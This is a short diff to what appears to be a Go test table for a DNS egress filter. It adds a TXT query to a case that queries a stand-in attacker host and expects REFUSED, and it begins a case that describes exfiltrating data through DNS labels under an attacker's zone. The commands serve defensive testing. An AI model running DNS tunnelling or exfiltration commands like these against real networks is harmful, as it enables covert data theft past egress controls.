@@ -3,7 +3,7 @@ package egress
 // Questions that carry something.
 var dnsRows = []evasion{
 	{id: "dns-refused", attack: "questions about refused names", in: listed, script: `#!
-getent ahosts evil.atoll.test; dig +short evil.atoll.test; dig +short AAAA evil.atoll.test; dig +tcp evil.atoll.test | grep -o 'status: [A-Z]*'`,
+getent ahosts evil.atoll.test; dig +short evil.atoll.test; dig +short AAAA evil.atoll.test; dig +short TXT evil.atoll.test; dig +tcp evil.atoll.test | grep -o 'status: [A-Z]*'`,
 		prints: "REFUSED"},
 	{id: "dns-tunnel", attack: "data in the labels of names below a zone of the attacker's", in: listed, script: `#!
 data=$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n')
